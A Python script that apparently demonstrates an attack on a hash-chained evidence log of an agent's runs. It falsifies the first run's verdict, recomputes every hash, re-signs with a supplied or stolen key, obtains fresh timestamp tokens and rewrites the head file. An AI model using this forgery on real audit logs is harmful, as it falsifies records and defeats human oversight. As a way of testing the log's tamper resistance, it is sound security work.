#!/usr/bin/env python3
"""What an attacker who can write the evidence directory does: changes the first run's verdict,
recomputes every hash after it (there is no HMAC key), and optionally signs the new chain with a
key (their own, or the agent's stolen one) and asks a time-stamping authority for new tokens;
and rewrites the head file to match the new chain.
  rewrite_evidence.py DIR [--sign PRIVATE_KEY] [--restamp TSA_URL]"""
import base64, glob, hashlib, json, os, subprocess, sys, tempfile, urllib.request

args = sys.argv[1:]
sign = restamp = None
if "--sign" in args:
    from cryptography.hazmat.primitives.serialization import load_pem_private_key
    sign = load_pem_private_key(open(args.pop(args.index("--sign") + 1), "rb").read(), None)
    args.remove("--sign")
if "--restamp" in args:
    restamp = args.pop(args.index("--restamp") + 1)
    args.remove("--restamp")


def token_for(digest):
    with tempfile.TemporaryDirectory() as work:
        query, reply = os.path.join(work, "q.tsq"), os.path.join(work, "r.tsr")
        subprocess.run(["openssl", "ts", "-query", "-digest", digest, "-sha256", "-cert", "-out", query],
                       check=True, capture_output=True)
        request = urllib.request.Request(restamp, open(query, "rb").read(),
                                         {"Content-Type": "application/timestamp-query"})
        open(reply, "wb").write(urllib.request.urlopen(request, timeout=10).read())
        token = os.path.join(work, "t.der")
        subprocess.run(["openssl", "ts", "-reply", "-in", reply, "-token_out", "-out", token],
                       check=True, capture_output=True)
        return base64.b64encode(open(token, "rb").read()).decode()


prev, changed, new_hashes = "0" * 64, False, {}
for path in sorted(glob.glob(os.path.join(args[0], "evidence-*.jsonl"))):
    out = []
    for line in open(path, encoding="utf-8"):
        r = json.loads(line)
        if r["type"] == "run" and not changed:
            r["verdict"], r["reason"], changed = "fail", "connection refused", True
        if r["type"] == "timestamp" and restamp:
            r["checkpoint"]["hash"] = new_hashes[r["checkpoint"]["seq"]]
            r["token"] = token_for(r["checkpoint"]["hash"])
        r["prev"] = prev
        body = {k: v for k, v in r.items() if k not in ("hash", "mac", "sig")}
        r["hash"] = hashlib.sha256(json.dumps(body, sort_keys=True, separators=(",", ":"),
                                              ensure_ascii=False).encode()).hexdigest()
        if sign is not None and "sig" in r:
            r["sig"] = sign.sign(r["hash"].encode()).hex()
        new_hashes[r["seq"]] = r["hash"]
        prev = r["hash"]
        out.append(json.dumps(r, sort_keys=True, separators=(",", ":"), ensure_ascii=False))
    open(path, "w", encoding="utf-8").write("\n".join(out) + "\n")
head = os.path.join(args[0], "head")
if os.path.exists(head):
    last = json.loads(out[-1])
    open(head, "w", encoding="utf-8").write(json.dumps(
        {"hash": last["hash"], "segment": os.path.basename(path), "seq": last["seq"]}) + "\n")
